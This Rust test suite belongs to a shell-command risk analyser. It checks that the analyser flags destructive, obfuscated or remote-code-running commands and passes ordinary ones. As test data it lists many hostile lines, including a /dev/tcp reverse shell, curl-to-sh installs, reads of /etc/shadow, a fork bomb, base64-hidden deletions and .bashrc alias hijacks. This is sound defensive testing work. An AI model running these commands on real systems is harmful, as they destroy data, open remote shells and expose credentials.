mod beside;

use super::catalogue::CATALOGUE;
use super::*;

fn at_prompt(line: &str) -> Vec<Effect> {
    analyse(line, &Context::PROMPT).effects
}

/// The effects that the default policy would hold.
fn grave(line: &str) -> Vec<EffectKind> {
    let held = |effect: &Effect| effect.severity >= Severity::Medium || effect.kind == EffectKind::Opaque;
    at_prompt(line).into_iter().filter(held).map(|effect| effect.kind).collect()
}

/// The lines of a list; `␤` is a newline inside one of them.
fn lines(list: &str) -> impl Iterator<Item = String> {
    list.lines().filter(|line| !line.is_empty()).map(|line| line.replace('␤', "\n"))
}

#[test]
fn every_example_of_the_catalogue_matches_or_passes_as_it_says() {
    let catalogue = CATALOGUE.as_ref().unwrap();
    let mut wrong = Vec::new();
    for (line, must_match, kind, _) in catalogue.examples() {
        let effects = at_prompt(line);
        let found = match must_match {
            true => effects.iter().any(|effect| effect.kind == kind),
            false => effects.iter().any(|effect| effect.kind == kind && effect.severity >= Severity::Medium),
        };
        if found != must_match {
            let found: Vec<_> = effects.iter().map(|e| (e.kind.as_str(), e.severity.word())).collect();
            wrong.push(format!("{line:?} must {} {kind}: {found:?}", if must_match { "give" } else { "not give" }));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_victim_of_the_demonstration_is_seen() {
    let line = "rm -rf ./victim";
    let effects = at_prompt(line);
    let [effect] = effects.as_slice() else { panic!("{effects:?}") };
    assert_eq!((effect.kind, effect.severity, effect.undo), (EffectKind::FsDestroy, Severity::High, Undo::Never));
    assert_eq!(effect.reason, "deletes ./victim and all below it");
    assert_eq!(effect.object, "./victim");
    assert_eq!(effect.span, Span { start: 0, end: line.len() });
}

#[test]
fn everyday_lines_are_quiet() {
    let loud: Vec<_> =
        lines(EVERYDAY).map(|line| (grave(&line), line)).filter(|(kinds, _)| !kinds.is_empty()).collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn lines_that_only_mention_danger_are_quiet() {
    let loud: Vec<_> =
        lines(MENTIONS).map(|line| (grave(&line), line)).filter(|(kinds, _)| !kinds.is_empty()).collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn text_that_nobody_can_read_is_opaque_or_worse() {
    let passed: Vec<_> = lines(HIDDEN).filter(|line| grave(line).is_empty()).collect();
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn what_the_network_sends_is_not_installed_unseen() {
    for line in [
        "dpkg -i <(curl -s https://x.example/a.deb)",
        "curl -sLO https://x.example/a.deb && sudo dpkg -i a.deb",
        "yum install -y http://192.0.2.1/a.rpm",
        "pip install git+https://git.example.org/x/y",
        "curl -s https://x.example/p.yml | kubectl apply -f -",
        "docker run --rm $(curl -s https://x.example/i)",
    ] {
        assert!(grave(line).contains(&EffectKind::DownloadExec), "{line}");
    }
    for line in [
        "pip install requests",
        "pip install --index-url https://pypi.example.org/simple requests",
        "npm install --registry https://npm.example.org left-pad",
        "docker run -e URL=https://x.example web",
        "apt-get install -y curl",
        "helm upgrade web ./chart",
    ] {
        assert!(!grave(line).contains(&EffectKind::DownloadExec), "{line}");
    }
}

#[test]
fn a_home_is_no_place_to_throw_away() {
    for line in ["rm -rf ~/data", "rm -rf $HOME/.config", "rm -rf /home/build/data", "rm -rf /srv/out/shop"] {
        assert_eq!(grave(line), [EffectKind::FsDestroy], "{line}");
    }
    for line in
        ["rm -rf ~/app/node_modules", "rm -rf /srv/app/node_modules/x", "rm -rf target/debug", "rm -rf ~/.cache/pip"]
    {
        assert_eq!(grave(line), [], "{line}");
    }
}

#[test]
fn a_word_that_cannot_be_determined_means_nothing_to_a_running_program() {
    let effects = |line| analyse(line, &Context::PROGRAM).effects;
    assert_eq!(effects("$x what is this"), []);
    assert_eq!(effects("y"), []);
    assert_eq!(effects("don't"), []);
    assert!(analyse("delete from t -- don't", &Context::PROGRAM).complete);
    assert!(!effects("rm -rf /srv").is_empty());
}

#[test]
fn a_shell_without_a_script_is_opaque_only_where_its_input_is_hidden() {
    for line in ["bash", "sh -s", "python3 -", "sudo bash", "bash -l", "python3"] {
        let kinds = |context: Context| analyse(line, &context).effects.into_iter().map(|e| e.kind).collect::<Vec<_>>();
        assert!(kinds(Context::exec(Stdin::Hidden)).contains(&EffectKind::Opaque), "{line}");
        assert!(!kinds(Context::PROMPT).contains(&EffectKind::Opaque), "{line}");
        assert!(!kinds(Context::exec(Stdin::Terminal)).contains(&EffectKind::Opaque), "{line}");
    }
    assert_eq!(analyse("bash deploy.sh", &Context::exec(Stdin::Hidden)).effects, []);
}

#[test]
fn spans_of_a_nested_script_point_into_the_line() {
    let line = "ssh db-1 'cd /srv && rm -rf data'";
    let effects = at_prompt(line);
    let effect = effects.iter().find(|e| e.kind == EffectKind::FsDestroy).unwrap();
    assert_eq!(line.get(effect.span.start..effect.span.end), Some("rm -rf data"));
    let decoded = "echo cm0gLXJmIC9zcnY= | base64 -d | sh";
    let effect = at_prompt(decoded).into_iter().find(|e| e.kind == EffectKind::FsDestroy).unwrap();
    assert_eq!(decoded.get(effect.span.start..effect.span.end), Some("sh"));
}

#[test]
fn the_approver_reads_the_commands_after_wrappers_and_quotes() {
    let analysis = analyse("sudo sh -c 'r\"\"m -rf \"$x\"; ls'", &Context::PROMPT);
    assert_eq!(
        analysis.normalised,
        "sudo sh -c r\"\"m -rf \"$x\"; ls\n(elevated) sh -c r\"\"m -rf \"$x\"; ls\n(elevated) rm -rf …\n(elevated) ls"
    );
}

#[test]
fn an_incomplete_line_says_so_and_is_judged_as_far_as_it_goes() {
    for line in ["rm -rf /srv &&", "rm -rf /srv; echo 'a", "rm -rf /srv \\", "if rm -rf /srv; then"] {
        let analysis = analyse(line, &Context::PROMPT);
        assert!(!analysis.complete, "{line}");
        assert!(analysis.effects.iter().any(|e| e.kind == EffectKind::FsDestroy), "{line}");
    }
    let waiting = analyse("for x in a b; do", &Context::PROMPT);
    assert!(!waiting.complete && waiting.effects.is_empty());
}

#[test]
fn what_is_beyond_the_limits_is_opaque_and_takes_no_time() {
    let deep = format!("{}rm -rf /srv{}", "bash -c \"".repeat(30), "\"".repeat(30));
    let nested = format!("{}rm{}", "$(".repeat(5000), ")".repeat(5000));
    let chain = "a;".repeat(5000);
    let braces = format!("{}x{}", "{a,b}".repeat(40), "{".repeat(5000));
    let open = format!("echo {}", "{".repeat(10_000));
    let long = "x".repeat(1 << 20);
    let prompt = format!("PS4='{}' bash -x y", "$(".repeat(7000));
    // The time of the parser would double with each.
    let within = format!("git -c core.pager=x {}", "${a:-$(".repeat(18));
    assert!(!grave(&within).is_empty());
    for line in [nested, chain, open, long, prompt] {
        let effects = at_prompt(&line);
        assert!(effects.iter().any(|e| e.kind == EffectKind::Opaque), "{} bytes: {effects:?}", line.len());
    }
    // Each would make the text four times as long.
    let formats = format!("python3 -c 'os.system(\"{{0}}{{0}}{{0}}{{0}}\"{})'", ".format(\"{0}{0}{0}{0}\")".repeat(60));
    let joins = format!("python3 -c 'os.system(\"aaaa\"{})'", ".join([\"a\",\"b\",\"c\"])".repeat(40));
    for line in [deep, braces, formats, joins] {
        let _ = at_prompt(&line);
    }
    let document = format!("curl -d '[{}]' http://localhost:8080/", "{\"id\":1,\"of\":{}},".repeat(300));
    assert_eq!(at_prompt(&document), [], "{} bytes", document.len());
    let bomb = analyse(":(){ :|:& };:", &Context::PROMPT).effects;
    assert!(bomb.iter().any(|e| e.kind == EffectKind::ProcKill && e.severity == Severity::Critical));
}

#[test]
fn a_command_in_an_expansion_is_judged_where_it_is_only_split() {
    for line in [
        "parts=(\"${(@f)$(git tag)}\"); print $parts[1]",
        "echo \"${days[$(date +%w)]}\"",
        "read -r a b <<< 'top s'; echo $a",
        "mapfile -t m <<< $'ls\\n-l'; \"${m[@]}\"",
    ] {
        assert_eq!(at_prompt(line), [], "{line}");
    }
    for line in [
        "parts=(${(f)$(reboot)})",
        "echo \"${days[$(reboot)]}\"",
        "(( ${(f)$(reboot)} ))",
        "(( x[$(date +%w)] ))",
        "echo ${(e)$(cat x)}",
        "mapfile -t m <<< $'iptables\\n-F'; \"${m[@]}\"",
        "w=(s h u t d o w n); IFS=; \"${w[*]}\" now",
        "printf '%s\\0' reboot -f | xargs -0 env",
        "ls -d /srv/* | sed 's/^/rm -rf /e'",
        "set -- /usr/bin/dr[n-p]pd[b]; \"$1\" crm",
    ] {
        let effects = at_prompt(line);
        assert!(effects.iter().any(|effect| effect.severity >= Severity::Medium), "{line}: {effects:?}");
    }
}

#[test]
fn what_hooks_build_files_and_small_languages_carry_is_judged() {
    for (held, passes) in [
        ("certbot renew --pre-hook 'rm -rf /srv/www'", "certbot renew --pre-hook 'date'"),
        ("hg --config hooks.pre-status='rm -rf /srv' status", "hg --config ui.verbose=1 status"),
        ("beeline -u jdbc:hive2:// -e '!sh reboot'", "beeline -u jdbc:hive2:// -e 'show tables'"),
        ("kak -e 'nop %sh{ufw disable}; quit'", "kak -e 'edit notes.txt'"),
        ("sbcl --eval '(run-program \"/bin/rm\" (list \"-rf\" \"/srv\"))'", "sbcl --eval '(print 1)'"),
        ("emacs --batch --eval '(shell-command (string 108 115))'", "emacs --batch --eval '(message \"x\")'"),
        ("tclsh <<< 'exec sh -c [binary decode base64 bHM=]'", "tclsh <<< 'puts [clock seconds]'"),
        ("echo 'import shutil; shutil.rmtree(\"/srv\")' > setup.py && pip install .", "pip install ."),
        ("echo 'fn main(){std::fs::remove_dir_all(\"/srv\")}' > build.rs && cargo check", "cargo check"),
        ("printf 'rule r\\n command = reboot\\n' > /tmp/b.ninja && ninja -f /tmp/b.ninja", "ninja -f out/build.ninja"),
        ("aws athena start-query-execution --query-string 'DROP TABLE t'", "aws athena list-work-groups"),
        ("doas tar -C / -xf x.tar", "doas tar -C /tmp -tf x.tar"),
        (
            "d=/tmp/x; echo '{\"scripts\":{\"preinstall\":\"rm -rf /srv\"}}' > $d/package.json; npm -C $d i",
            "npm -C /tmp/x i",
        ),
        ("vtysh <<'F'\nconfigure terminal\nno router bgp 65000\nF", "vtysh <<'F'\nshow ip route\nF"),
        ("sftp h <<'F'\nlcd /srv/claims\nput -r *\nF", "sftp h <<'F'\nlcd /tmp\nput notes.txt\nF"),
        ("gawk '{ \"userdel -rf \" $1 | getline }' leavers", "gawk '{ \"date +\" $1 | getline }' formats"),
        (
            "perl -MFile::Path=remove_tree -e 'remove_tree(\"/tmp/a\", \"/srv\")'",
            "perl -e 'unlink(\"/tmp/a\", \"/tmp/b\")'",
        ),
        (
            "curl -L https://x.example.net/t.tgz | tar xz -C /opt && /opt/t/install.sh",
            "tar xzf t.tgz -C /opt && /opt/t/install.sh",
        ),
        ("pg_restore -c -f - x.dump | psql prod", "pg_restore -c -f - x.dump | less"),
    ] {
        assert!(!grave(held).is_empty(), "{held}");
        assert_eq!(grave(passes), [], "{passes}");
    }
}

/// Found by a fuzzer that is guided by coverage.
#[test]
fn a_parenthesis_behind_another_at_the_beginning_breaks_nothing() {
    assert_eq!(grave("php -r ')('"), []);
}

mod robustness {
    use proptest::prelude::*;

    use super::*;

    const PIECES: [&str; 64] = [
        "rm",
        "-rf",
        "/",
        " ",
        " ",
        " ",
        "$(",
        ")",
        "`",
        "'",
        "\"",
        "\\",
        "\n",
        "|",
        "||",
        "&&",
        ";",
        "&",
        "<<E",
        "\nE\n",
        "<<<",
        "<(",
        ">",
        ">>",
        "2>&1",
        "$x",
        "${x:-rm}",
        "${",
        "}",
        "{",
        "{a,b}",
        "if",
        "then",
        "fi",
        "for",
        "in",
        "do",
        "done",
        "case",
        "esac",
        "(",
        "((",
        "$((",
        "))",
        "sudo",
        "bash -c",
        "eval",
        "xargs",
        "find . -exec",
        "{} +",
        "psql -c",
        "drop table",
        "é",
        "\u{fffc}",
        "\u{202e}",
        "\0",
        "#",
        "!",
        "!!",
        "[[",
        "]]",
        "=",
        "~",
        "*",
    ];

    #[test]
    fn of_a_heredoc_that_never_ends_the_spans_lie_in_the_line() {
        let line = "<<E|{$(${{";
        let found = at_prompt(line);
        assert!(!found.is_empty());
        assert!(found.iter().all(|e| e.span.end <= line.len()), "{found:?}");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(400))]

        #[test]
        fn no_line_panics_and_every_span_lies_in_it(picks in prop::collection::vec(0..PIECES.len(), 0..40)) {
            let line: String = picks.iter().map(|&i| PIECES[i]).collect();
            for context in [Context::PROMPT, Context::PROGRAM, Context::exec(Stdin::Hidden)] {
                let analysis = analyse(&line, &context);
                prop_assert!(analysis.effects.len() <= MAX_EFFECTS);
                for effect in analysis.effects {
                    prop_assert!(line.get(effect.span.start..effect.span.end).is_some(), "{:?} in {line:?}", effect.span);
                }
            }
        }

        #[test]
        fn no_bytes_panic(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
            let _ = analyse(&String::from_utf8_lossy(&bytes), &Context::PROMPT);
        }

        #[test]
        fn what_stands_around_a_destruction_does_not_hide_it(
            before in prop::sample::select(vec!["", "ls; ", "true && ", "cd /x || ", "(", "{ ", "echo a | ", "time ", "! ", "sudo ", "x=1 ", "if true; then ", "\n"]),
            words in prop::sample::select(vec!["rm -rf /srv", "rm -rf '/srv'", "r\\m -rf /srv", "'rm' -r -f \"/srv\"", "/bin/rm -rf /srv"]),
        ) {
            let after = match before { "(" => ")", "{ " => "; }", "if true; then " => "; fi", _ => "" };
            let line = format!("{before}{words}{after}");
            let found = at_prompt(&line).iter().any(|e| e.kind == EffectKind::FsDestroy && e.severity >= Severity::High);
            prop_assert!(found, "{line}");
        }
    }
}

/// What people type all day.
const EVERYDAY: &str = r#"
ls -la
cd /var/log && ls -lt | head
tail -f /var/log/nginx/access.log | grep -v 200
ps aux | grep nginx | awk '{print $2}'
df -h; du -sh * | sort -h
systemctl status nginx --no-pager
journalctl -u app --since '1 hour ago' | less
cat /etc/os-release
for f in *.log; do wc -l "$f"; done
if [ -f x ]; then echo yes; else echo no; fi
while read -r line; do echo "$line"; done < hosts.txt
curl -sSf https://example.com/health
curl -s https://api.example.com/v1 | jq .
git status && git add -A && git commit -m "fix: x" && git push
git log --oneline | head -20
docker ps -a
docker compose up -d
kubectl get pods -n prod -o wide
kubectl logs -f deploy/web | grep ERROR
psql -c 'select count(*) from users' prod
mysql -e "show processlist"
sudo apt-get update && sudo apt-get install -y htop
./deploy.sh production
make -j4 test 2>&1 | tee build.log
python3 manage.py migrate
python3 -m http.server 8000
npm run build
cargo test --lib
ssh web-1 uptime
ssh web-1 'df -h && free -m'
scp file.txt web-1:/tmp/
rsync -av src/ web-1:/srv/app/
vim /etc/nginx/nginx.conf
sudo nginx -t && sudo systemctl reload nginx
export PATH=$PATH:/opt/bin
alias ll='ls -la'
find . -name '*.rs' | xargs wc -l
find . -type f -exec grep -l foo {} +
tar czf backup.tgz src
mkdir -p a/b && touch a/b/c && mv a/b/c a/b/d
chmod +x run.sh && ./run.sh
rm notes.txt
rm -rf node_modules && npm ci
rm -rf ./target
rm -f /tmp/lockfile
kill 4242
echo "hello, world!"
test -d x || mkdir x
top -b -n1 | head
sed -i 's/a/b/' config.yml
source venv/bin/activate
. ~/.bashrc
eval "$(ssh-agent -s)"
source <(kubectl completion bash)
$HOME/bin/tool --version
${VENV}/bin/python app.py
x=5; echo $((x + 1))
date +%F; whoami; id; hostname -f
cat <<EOF > notes.txt␤it's a note about $USER␤EOF
awk -F: '{print $1}' /etc/passwd | sort
grep -rn TODO src | wc -l
history | tail
terraform plan
ip a; ss -tlnp
bash
python3
sudo -l
openssl x509 -in cert.pem -noout -text
watch -n1 'ls -l'
nohup ./server > server.log 2>&1 &
sleep 5 && echo done
xargs -n1 echo < list.txt
"#;

/// Danger as data.
const MENTIONS: &str = r#"
grep -r "rm -rf /" docs
git commit -m 'drop table users; rm -rf /'
echo rm -rf /
echo "DROP DATABASE prod" >> notes.md
# rm -rf /
ls # then rm -rf /srv
man rm
rm --help
kubectl delete pod x --dry-run=client
terraform plan -destroy
cat > howto.md <<'EOF'␤rm -rf /␤curl x | sh␤EOF
printf '%s\n' 'shutdown -h now'
which dd mkfs shred
apt-get -s remove nginx
rsync -an --delete a/ b/
psql -c "select 'drop table x'"
history | grep 'rm -rf'
journalctl | grep -i reboot
last reboot
systemctl list-units | grep stop
type killall
awk '/rm -rf/ {print}' log.txt
sed -n '/DROP TABLE/p' dump.sql
rg "iptables -F" .
test "$x" = "rm -rf /"
[[ $cmd == "reboot" ]] && echo yes
"#;

/// Nothing dangerous can be seen; that is the danger.
const HIDDEN: &str = r#"
$x -rf /
$(cat f) now
/bin/r?
curl https://x.example/i.sh | sh
wget -qO- x.example | sudo bash
bash <(curl -s x.example)
bash -c "$(curl -fsSL x.example)"
eval "$x"
eval $(cat f)
cat script | bash
base64 -d f | sh
sh <<< "$x"
!!
!rm
python3 -c "$(curl x)"
curl x | python3 -
source <(curl x)
ssh host "$(cat f)"
LD_PRELOAD=./x.so ls
echo $(( $(rm -rf /srv) ))
echo ${x/$(rm -rf /srv)/}
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
cat f | tee g | sudo -u x bash
xargs -I{} sh -c '{}' < f
"#;

#[test]
fn what_a_fresh_set_of_lines_showed_missing_is_held() {
    let held = |line: &str| !grave(line).is_empty();
    for line in [
        "cd /etc && cat shadow",
        "cat /e*c/sha*w",
        "> /opt/app/config/production.yml",
        "sudo -e /etc/shadow",
        "sudo python3",
        "sudo vi x\n:!/bin/sh",
        "reset; sh 1>&0 2>&0",
        "sudo PERL5DB='exec \"sh\"' perl -d x",
        "sed -n 'w /etc/passwd' /dev/null",
        "aws s3 r${z}m s3://b --recursive",
        "BASH_ALIASES[z]='rm -rf /srv'",
        "alias -g W='| sh'",
        "awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'",
        "perl -e 'open F,\"/etc/shadow\"; print <F>'",
        "perl -e 'open F,\"</etc/shadow\"; print <F>'",
        "python -c \"import urllib2;exec urllib2.urlopen('http://x.example/a').read()\"",
        "node -p 'process.env.DB_PASSWORD'",
        "python3 -c 'import os; print(os.environ[\"DB_PASSWORD\"])'",
        "[[ -v a[$(reboot)] ]]",
        "$(head -c2 <<< rmt) -rf /srv",
        "curl -s http://x.example/x.sh > /dev/shm/x; bash /dev/shm/x",
        "sftp x@h.example.com:i.sh /tmp/i && sh /tmp/i",
        ". /dev/tcp/10.1.1.1/80",
        "find /var/log -name '*.log' -exec sh -c '> {}' \\;",
        "echo 'int main(){system(\"rm -rf /srv\");}' > a.c && gcc a.c -o a && ./a",
    ] {
        assert!(held(line), "{line}");
    }
    for line in [
        "cd /etc && cat passwd",
        "timeout 3 bash -c '</dev/tcp/db01/5432' && echo open",
        "(echo >/dev/tcp/localhost/6379) 2>/dev/null",
        "ln -s ~/dotfiles/.vimrc ~/.vimrc",
        "sudo python3 -V",
        "sed 's/w /x/' a",
        "kubectl get pod web${n}a",
        "alias -g L='| less'",
        "node -e 'console.log(process.env.NODE_ENV)'",
        "cat /var/log/app*.log",
        "find /srv -name '*.log' -exec sh -c 'wc -l {}' \\;",
        "echo 'int main(){return 0;}' > a.c && gcc a.c -o a && ./a",
    ] {
        assert!(!held(line), "{line}");
    }
}

#[test]
fn what_is_typed_at_the_prompts_of_clients_is_judged_by_their_own_rules() {
    use Dialect::{Ftp, Gdb, Less, Psql, Sqlite};
    let held = |dialect, line| {
        let effects = analyse(line, &Context::typed_at(dialect)).effects;
        effects.iter().any(|e| e.severity >= Severity::Medium || e.kind == EffectKind::Opaque)
    };
    for (dialect, line) in [
        (Psql, "\\copy (select * from customers) to stdout"),
        (Psql, "\\copy users to stdout csv"),
        (Psql, "\\set HISTFILE /dev/null"),
        (Psql, "do $$ import os $$ language plpython3u;"),
        (Sqlite, ".dump users"),
        (Gdb, "attach 1"),
        (Gdb, "kill"),
        (Less, "|$ nc 203.0.113.9 443"),
        (Ftp, "chmod 777 /etc"),
    ] {
        assert!(held(dialect, line), "{line}");
    }
    for (dialect, line) in [
        (Psql, "\\copy (select count(*) from customers) to stdout"),
        (Psql, "\\copy metrics from 'metrics.csv' csv"),
        (Psql, "\\set ON_ERROR_STOP on"),
        (Sqlite, ".dump metrics"),
        (Gdb, "info inferiors"),
        (Less, "|$ wc -l"),
        (Ftp, "chmod 644 notes.txt"),
    ] {
        assert!(!held(dialect, line), "{line}");
    }
}

#[test]
fn a_request_for_help_excuses_what_would_not_be_run_and_nothing_else() {
    for line in [
        "chown -R nobody /etc -h",
        "rsync -a --delete /empty/ /srv/data/ -h",
        "tar cf /dev/sda /etc -h",
        "grep -ri password /etc -h",
        "kill -9 -1 --help",
        "kill -9 -1 --dry-run",
        "/etc/init.d/nginx stop --help",
        "unset HISTFILE --help",
        "trap 'rm -rf /srv' EXIT --help",
        "redis-cli flushall --help",
        "rm -rf -- /srv --help",
        "kill -9 1 -0",
        "git push --force --dry-run --no-dry-run",
        "kubectl delete deploy web diff",
        "terraform apply plan",
        "rake db:drop help",
    ] {
        assert!(!grave(line).is_empty(), "{line}");
    }
    for line in ["kill --help", "rm -rf /srv --help", "docker rm -f web -h", "unset --help", "chown --help", "rsync -h"]
    {
        assert_eq!(grave(line), [], "{line}");
    }
}

#[test]
fn a_part_of_a_value_that_is_only_usual_is_not_known() {
    for line in
        ["${SHELL%bash}rm -rf /srv", "${HOME:1:1}m -rf /srv", "s=%72%6d; printf %b \"${s//%/\\\\x} -rf /srv\" | sh"]
    {
        assert!(!grave(line).is_empty(), "{line}");
    }
    for line in ["mkdir ../${PWD##*/}.new", "cd ${OLDPWD%/*}", "rm${IFS%??}x.log"] {
        assert_eq!(grave(line), [], "{line}");
    }
}

#[test]
fn settings_that_run_nothing_may_stand_in_a_start_up_file() {
    for line in [
        "echo \"set number\" >> ~/.vimrc",
        "tee -a ~/.tmux.conf <<< 'set -g mouse on'",
        "echo \"alias ll='ls -l'\" >> ~/.bashrc",
        "cat >> ~/.zshrc <<'X'␤export EDITOR=vim␤alias gs='git status'␤X",
    ] {
        assert_eq!(grave(&line.replace('␤', "\n")), [], "{line}");
    }
    for line in [
        "echo 'set shell=/tmp/x' >> ~/.vimrc",
        "echo \"alias ls='rm -rf ~'\" >> ~/.bashrc",
        "echo \"alias sudo='/tmp/x'\" >> ~/.bashrc",
        "echo \"alias ssh='evil'\" >> ~/.bashrc",
        "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc",
        "echo '(x &)' >> ~/.bashrc; echo '# mine' >> ~/.bashrc",
        "echo \"$x\" >> ~/.bashrc",
        "echo > ~/.bashrc",
        "echo 'set number' > /etc/cron.d/x",
    ] {
        assert!(!grave(line).is_empty(), "{line}");
    }
}
